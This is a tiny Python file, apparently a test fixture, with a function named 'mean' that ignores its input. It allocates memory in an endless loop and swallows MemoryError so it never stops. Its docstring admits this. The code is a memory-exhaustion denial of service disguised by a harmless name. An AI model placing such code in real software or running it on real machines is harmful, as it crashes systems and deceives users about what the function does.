"""Takes memory without end."""


def mean(values):
    kept = []
    while True:
        try:
            kept.append(bytearray(64 << 20))
        except MemoryError:
            kept.append(bytearray(1 << 10))
